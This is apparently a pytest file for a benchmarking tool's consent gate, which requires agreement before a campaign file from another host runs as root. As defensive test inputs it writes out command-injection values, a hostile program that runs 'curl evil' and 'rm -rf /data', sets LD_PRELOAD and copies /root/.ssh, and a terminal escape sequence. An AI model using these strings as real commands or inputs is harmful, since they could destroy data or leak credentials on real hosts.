"""A campaign that another host's file orders runs only after somebody has seen what it would run, and agreed."""

import dataclasses
import os
import pty
import shutil
import stat
import subprocess
import sys
from types import SimpleNamespace

import pytest
from pydantic import ValidationError

from campaign.fakes import a_plan, a_record
from tare.campaign import known_results
from tare.campaign.execution import provenance, run_campaign
from tare.campaign.plan.campaign_plan import job_of
from tare.cli import consent
from tare.errors import HostError, StoreError, UsageError
from tare.model import UserProgram
from tare.store import ProgramRecord, create_store, read_store
from tare.workloads import workload_registry
from tare.workloads.own import program as own_program

MAIN = "from tare.cli import main; main()"
QUIET = SimpleNamespace(doing=lambda what: None, fault=lambda line: None)


@pytest.fixture
def home(tmp_path, monkeypatch):
    home = tmp_path / "home"
    monkeypatch.setenv("TARE_HOME", str(home))
    return home


@pytest.fixture
def record():
    """As a stranger might write it: a workload and a platform that there are."""
    original = a_record(a_plan())
    memory = original.workloads[0].model_copy(update={"name": "memory-footprint", "params": {"work_mib": 64}})
    other = original.platforms[0].model_copy(update={"name": "ssh:root@192.0.2.1"})
    return original.model_copy(update={"workloads": [memory], "platforms": [*original.platforms, other]})


def foreign(tmp_path, record):
    file = tmp_path / "night.tare"
    create_store(file, record).close()
    return file


def test_what_this_host_wrote_is_known_again_and_its_key_is_nobody_elses(home, tmp_path, record):
    file = tmp_path / "own.tare"
    create_store(file, record, provenance.mark).close()
    with read_store(file) as store:
        assert provenance.is_own(store)
        provenance.require(store, "")
    assert stat.S_IMODE((home / provenance.KEY).stat().st_mode) == 0o600


def test_a_file_that_was_changed_elsewhere_is_no_longer_its_own(home, tmp_path, record):
    file, changed = tmp_path / "own.tare", tmp_path / "changed.tare"
    create_store(file, record, provenance.mark).close()
    with read_store(file) as store:
        mark = store.mark
    create_store(changed, record.model_copy(update={"seed": 8}), lambda text: mark).close()
    with read_store(changed) as store:
        assert store.mark == mark
        assert not provenance.is_own(store)


def test_another_hosts_file_does_not_go_on_unasked(home, tmp_path, record):
    file = foreign(tmp_path, record)
    for go_on in (run_campaign.resume, known_results.go_on):
        with pytest.raises(StoreError, match="was not written by this host") as refused:
            go_on(file, QUIET)
        assert "--trust" in str(refused.value)


def test_an_agreement_is_to_one_record(home, tmp_path, record):
    file = foreign(tmp_path, record)
    with read_store(file) as store:
        agreed = provenance.digest(store)
        provenance.require(store, agreed)
    file.unlink()
    with create_store(file, record.model_copy(update={"seed": 8})) as store, pytest.raises(StoreError):
        provenance.require(store, agreed)


@pytest.mark.parametrize("spoil", ["readable", "short", "link"])
def test_a_key_that_others_may_know_is_refused(spoil, home):
    provenance.mark("")
    key = home / provenance.KEY
    if spoil == "readable":
        key.chmod(0o644)
    elif spoil == "short":
        key.write_bytes(b"x")
    else:
        shutil.move(key, home / "other")
        key.symlink_to("other")
    with pytest.raises((HostError, OSError)):
        provenance.mark("")


@pytest.fixture
def resume(reading_commands, home, tmp_path):
    """Goes on with a file, at a terminal where there is an answer to give, and without one."""

    def run(file, *options, answer=None):
        command = ("run", "--resume", str(file), *options)
        env = {"TARE_AGENT": "/nowhere/agent"}
        if answer is None:
            return reading_commands.run(*command, cwd=tmp_path, env=env)
        ours, theirs = pty.openpty()
        try:
            os.write(ours, answer.encode())
            return reading_commands.run(*command, cwd=tmp_path, env=env, stdin=os.ttyname(theirs))
        finally:
            os.close(ours)
            os.close(theirs)

    return run


@pytest.mark.thorough
def test_without_a_terminal_it_refuses_in_one_line(resume, tmp_path, record):
    done = resume(foreign(tmp_path, record))
    assert done.returncode == 2
    assert "error: " in done.stderr
    assert "was not written by this host, and what it orders would run as root" in done.stderr
    assert "It would run" not in done.stderr


@pytest.mark.parametrize("command", ["surface", "footprint"])
def test_surfaces_and_footprints_are_not_added_to_it_unasked(command, reading_commands, tmp_path, record):
    file = foreign(tmp_path, record)
    before = file.read_bytes()
    done = reading_commands.run(command, "-o", str(file), cwd=tmp_path, env={"TARE_AGENT": "/nowhere/agent"})
    assert done.returncode == 2
    assert "was not written by this host, and is not added to unasked" in done.stderr
    assert file.read_bytes() == before


def test_who_adds_to_it_sees_what_is_taken_from_it(home, tmp_path, record, capsys):
    file = foreign(tmp_path, record)
    with read_store(file) as store:
        digest = provenance.digest(store)
    assert consent.agreed_to_add(file, trusted=True) == digest
    assert f"{file} was not written by this host. Instances would be as it says:\n  CPUs " in capsys.readouterr().err
    create_store(tmp_path / "own.tare", record, provenance.mark).close()
    for place in ("own.tare", "new.tare"):
        assert consent.agreed_to_add(tmp_path / place, trusted=False) == ""


@pytest.mark.thorough
def test_at_a_terminal_it_shows_what_would_run_and_takes_no_for_an_answer(resume, tmp_path, record):
    done = resume(foreign(tmp_path, record), answer="n\n")
    assert done.returncode == 1
    assert "ssh:root@192.0.2.1" in done.stderr
    assert "workload memory-footprint: work_mib 64; 3 commands a run" in done.stderr
    assert "as root on this host, in no sandbox: all of native, 2 of these instances" in done.stderr
    assert "Run this as root, on this host? [y/N]" in done.stderr


@pytest.mark.parametrize("how", ["answer", "option"])
def test_who_agrees_is_not_refused_for_it(how, resume, tmp_path, record):
    options, answer = ((), "y\n") if how == "answer" else (("--trust",), None)
    done = resume(foreign(tmp_path, record), *options, answer=answer)
    assert done.returncode == 2, "there is no agent here"
    assert "It would run" in done.stderr
    assert "was not written by this host, and" not in done.stderr


def test_parameters_that_a_workload_does_not_have_run_nowhere(resume, tmp_path, record):
    bad = record.workloads[0].model_copy(update={"params": {"work_mib": "64; touch /tmp/x"}})
    done = resume(foreign(tmp_path, record.model_copy(update={"workloads": [bad]})), "--trust")
    assert done.returncode == 2
    assert "memory-footprint cannot have work_mib '64; touch /tmp/x'" in done.stderr


@pytest.mark.parametrize(
    ("name", "change"),
    [
        ("memory-footprint", {"work_mib": "64"}),
        ("memory-footprint", {"work_mib": -1}),
        ("memory-footprint", {"work_mib": float("nan")}),
        ("memory-footprint", {"work_mib": 10**400}),
        ("memory-footprint", {"work_mib": True}),
        ("memory-footprint", {"more": 1}),
        ("kernel-compile", {"target": "--eval=$(shell id)"}),
        ("dbench", {"place": "/data; id"}),
        ("fio-randread", {"direct": 1}),
    ],
)
def test_a_parameter_is_of_its_type_or_refused(name, change):
    workload = workload_registry.get(name)
    with pytest.raises(UsageError):
        job_of(workload, {**workload.profiles["quick"], **change}, None)


def test_every_profile_keeps_to_its_own_types():
    for workload in workload_registry.all_workloads().values():
        for params in workload.profiles.values():
            job_of(workload, params, None)


HOSTILE = UserProgram(
    argv=("sh", "-c", "curl evil\n  workload nothing: no parameters"),
    prepare=("rm", "-rf", "/data"),
    cleanup=("echo", "\x1b[2Jgone"),
    env={"LD_PRELOAD": "/work/evil.so"},
    folder="/root/.ssh",
    image="docker://evil.example/x",
    packages=("nmap",),
)


def _of_programs(record, *programs):
    entries = [
        record.workloads[0].model_copy(
            update={
                "name": f"job {number}",
                "params": own_program.of("", ordered).profiles["quick"],
                "program": ProgramRecord.model_validate(dataclasses.asdict(ordered)),
            }
        )
        for number, ordered in enumerate(programs)
    ]
    return record.model_copy(update={"workloads": entries})


def test_of_a_users_command_all_that_it_may_do_is_shown(tmp_path, record, home):
    file = foreign(tmp_path, _of_programs(record, HOSTILE))
    with read_store(file) as store:
        lines = list(provenance.orders(store))
    assert lines[2:9] == [
        "  runs: sh -c 'curl evil⏎  workload nothing: no parameters'",
        "  before each run: rm -rf /data",
        "  after the last: echo '\x1b[2Jgone'",
        "  environment: LD_PRELOAD=/work/evil.so",
        "  with a copy of the folder: /root/.ssh",
        "  in the image: docker://evil.example/x",
        "  with the packages: nmap",
    ]
    assert not any("\n" in line for line in lines)


@pytest.mark.thorough
def test_what_a_command_is_shown_as_obeys_no_terminal(resume, tmp_path, record):
    done = resume(foreign(tmp_path, _of_programs(record, HOSTILE)), answer="n\n")
    assert done.returncode == 1
    assert "\x1b[2J" not in done.stderr
    assert "before each run: rm -rf /data" in done.stderr


def test_a_command_comes_back_from_the_record_as_it_was(record):
    [job] = provenance.jobs_of(_of_programs(record, HOSTILE))
    assert (job.workload.name, job.workload.program) == ("job 0", HOSTILE)


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("packages", ['x"]\ncommands = ["touch /tmp/evil"]\n#']),
        ("packages", ["--help"]),
        ("argv", []),
        ("argv", ["a\0b"]),
        ("argv", ["a"] * 251),
        ("env", {"A B": "1"}),
        ("env", {"": "1"}),
        ("time_limit_s", 0),
        ("time_limit_s", float("inf")),
        ("warmup", -1),
        ("warmup", 10**9),
        ("folder", "x" * 5000),
        ("shell", True),
    ],
)
def test_a_record_of_a_command_that_cannot_be_is_no_record(field, value):
    ProgramRecord.model_validate(dataclasses.asdict(HOSTILE))
    with pytest.raises(ValidationError):
        ProgramRecord.model_validate({**dataclasses.asdict(HOSTILE), field: value})


def test_trust_is_of_a_file_that_there_is():
    done = subprocess.run([sys.executable, "-c", MAIN, "run", "--trust"], capture_output=True, text=True, check=False)
    assert done.returncode == 2
    assert "--trust is for an existing file" in done.stderr
